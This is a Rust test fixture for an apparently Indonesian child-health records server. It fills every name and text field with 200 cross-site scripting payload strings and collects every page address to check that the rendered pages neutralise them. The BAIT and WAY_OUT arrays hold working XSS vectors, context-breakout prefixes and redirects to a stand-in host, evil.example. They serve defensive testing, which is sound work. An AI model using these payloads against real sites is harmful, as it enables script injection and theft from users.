//! A world in which somebody typed what would run, wherever anything can be typed.

use serde_json::json;
use server::admin::{people, reference};
use server::http::web::PAGES;
use server::store::{GrantOf, Role};
use std::collections::BTreeSet;
use sync_protocol::body::Body;
use sync_protocol::ids::RecordId;
use sync_protocol::record::{Kind, Shape};
use sync_tests::{
    OFFICE_PASSWORD, Office, SADAN, World, any_id, area, child_body, measurement_body,
};

/// What runs `hit()` somewhere, or fetches from elsewhere.
pub(super) const BAIT: [&str; 25] = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<a href=javascript:hit()>lihat</a>",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "autofocus onfocus=hit() x=",
    "onmouseover=hit() style=position:fixed;inset:0 ",
    "javascript:hit()",
    "{{hit()}}${hit()}<%=hit()%>",
];

/// How it gets out of where it stands.
const WAY_OUT: [&str; 8] =
    ["", "\"", "'", "\">", "'>", "</textarea></title></script>", "--><!-- -->", "&#34;&gt;\u{0}"];

pub(super) fn strings() -> Vec<String> {
    let all: Vec<String> = WAY_OUT
        .iter()
        .flat_map(|way| BAIT.iter().map(move |bait| format!("{way}{bait}")))
        .map(|string| string.replace('\u{0}', ""))
        .collect();
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), 200);
    all
}

/// A world in which every name and every text is one of these strings.
pub(super) struct Infested {
    pub(super) world: World,
    pub(super) office: Office,
    pub(super) admin: Office,
    pub(super) children: Vec<RecordId>,
    measurement: RecordId,
    conflicts: Vec<i64>,
    parked: Vec<i64>,
    tablet: u32,
    person: String,
}

impl Infested {
    pub(super) fn new(strings: &[String]) -> Self {
        let world = World::default();
        let [first, second, ..] = strings else { panic!("there are strings") };
        let renamed = format!("code,level,name,parent\n{SADAN},desa,{},16.04.06\n", quoted(first));
        reference::import_areas(world.service(), renamed.as_bytes()).unwrap();
        let posyandu = strings.iter().map(|name| format!("{SADAN},{}\n", quoted(name)));
        let posyandu = format!("desa,name\n{}", posyandu.collect::<String>());
        reference::import_posyandu(world.service(), posyandu.as_bytes()).unwrap();
        let puskesmas = format!("code,name,desa\nCONTOH-1,{},{SADAN}\n", quoted(second));
        reference::import_puskesmas(world.service(), puskesmas.as_bytes()).unwrap();

        let mut one = world.device(first, &[SADAN]);
        let mut other = world.device(second, &[SADAN]);
        let children: Vec<RecordId> = strings.iter().map(|_| any_id()).collect();
        let mut measurement = any_id();
        for (child, string) in children.iter().zip(strings) {
            let body = with_texts(Kind::CHILD, child_body(string), string);
            let born = one.child(*child, SADAN, &body);
            measurement = any_id();
            let weighed = measurement_body(*child, 8_000);
            let weighed = with_texts(Kind::MEASUREMENT, weighed, string);
            let weighed = one.body("measurement", measurement, None, &weighed);
            let visit = Body::new()
                .with("child_id", child.to_string())
                .with("visited_on", "2026-11-24")
                .with("purpose", "konseling");
            let visit = with_texts(Kind::VISIT, visit, string);
            let visit = one.body("visit", any_id(), None, &visit);
            let faulty = measurement_body(*child, 1).with("note", string.as_str());
            let faulty = one.body("measurement", any_id(), None, &faulty);
            let receipts = one.push(&[born, weighed, visit, faulty]).receipts;
            let outcomes: Vec<&str> =
                receipts.iter().map(|receipt| receipt.outcome.as_str()).collect();
            assert_eq!(outcomes, ["applied", "applied", "applied", "parked"], "{string}");
            let edited = body.with("phone", format!("{string}{string}"));
            let edited = other.body("child", *child, None, &edited);
            other.push(&[edited]);
        }
        let office = desk(&world, first, Role::Penyelia, "rina");
        let admin = desk(&world, second, Role::Admin, "anton");
        let (conflicts, parked, person) = Self::settle_what(&world, second);
        let tablet = one.number;
        Infested { world, office, admin, children, measurement, conflicts, parked, tablet, person }
    }

    /// What waits to be settled, and a person to look at.
    fn settle_what(world: &World, name: &str) -> (Vec<i64>, Vec<i64>, String) {
        let grants = vec![GrantOf::Area(area(SADAN))];
        let person = people::add_worker(world.service(), name.to_owned(), Role::Penyelia, grants);
        let person = person.unwrap();
        let token = people::make_token(world.service(), person).unwrap();
        let ids = |address: &str, list: &str| -> Vec<i64> {
            let reply = world.server.client().get(address).token(&token).send().json();
            let items = reply[list].as_array().unwrap().clone();
            items.iter().map(|item| item["id"].as_i64().unwrap()).collect()
        };
        let conflicts = ids("/v1/conflicts?limit=500", "conflicts");
        let parked = ids("/v1/parked?limit=500", "parked");
        (conflicts, parked, person.to_string())
    }

    /// Every address of every page with something in it, by its pattern.
    pub(super) fn addresses(&self) -> Vec<(&'static str, String)> {
        let pages = PAGES.iter().filter(|page| page.method == "GET").map(|page| page.pattern);
        let mut addresses = Vec::new();
        for pattern in pages {
            let with = |id: &dyn ToString| pattern.replace("{id}", &id.to_string());
            match pattern {
                "/aset/{name}" | "/app" | "/app/" | "/app/{name}" | "/tren.svg" => {}
                "/balita" => addresses.extend(self.lists(pattern)),
                "/konflik" | "/tertahan" => addresses.push((pattern, pattern.to_owned())),
                "/balita/{id}" => {
                    addresses.extend(self.children.iter().map(|id| (pattern, with(id))));
                }
                "/konflik/{id}" => {
                    addresses.extend(self.conflicts.iter().map(|id| (pattern, with(id))));
                }
                "/tertahan/{id}" => {
                    addresses.extend(self.parked.iter().map(|id| (pattern, with(id))));
                }
                _ if pattern.starts_with("/balita/{id}/") => {
                    addresses.extend(self.children.iter().map(|id| (pattern, with(id))));
                }
                _ if pattern.starts_with("/pengukuran/") => {
                    addresses.push((pattern, with(&self.measurement)));
                }
                "/petugas/{id}" => addresses.push((pattern, with(&self.person))),
                "/tablet/{nomor}" => {
                    addresses.push((pattern, pattern.replace("{nomor}", &self.tablet.to_string())));
                }
                "/entri" => addresses.push((pattern, format!("/entri?area={SADAN}"))),
                "/entri/anak" => {
                    addresses
                        .push((pattern, format!("/entri/anak?area={SADAN}&tanggal=2026-11-24")));
                }
                _ => addresses.push((pattern, pattern.to_owned())),
            }
        }
        addresses
    }

    /// The parts of a list, by the links of the pages themselves.
    fn lists(&self, pattern: &'static str) -> Vec<(&'static str, String)> {
        let mut found = Vec::new();
        let mut next = Some(pattern.to_owned());
        while let Some(address) = next {
            let page = self.office.get(&address);
            next = page.attributes(".pager a[rel=next]", "href").pop();
            found.push((pattern, address));
        }
        found
    }
}

pub(super) fn desk(world: &World, name: &str, role: Role, login: &str) -> Office {
    let grants = vec![GrantOf::Area(area("16.04.06"))];
    let worker = people::add_worker(world.service(), name.to_owned(), role, grants).unwrap();
    people::set_password(world.service(), worker, Some(login), OFFICE_PASSWORD).unwrap();
    Office::log_in(&world.server.url(), login, OFFICE_PASSWORD)
}

fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// A body with the string in every field that takes any text.
fn with_texts(kind: Kind, body: Body, string: &str) -> Body {
    // A NIK is held against its own rules.
    let is_number = |name: &str| ["nik", "kk", "guardian_nik"].contains(&name);
    kind.fields().iter().filter(|field| !is_number(field.name)).fold(body, |body, field| {
        if field.shape == Shape::Text {
            body.with(field.name, string)
        } else if field.name == "topics" {
            body.with(field.name, json!([string, string]))
        } else {
            body
        }
    })
}
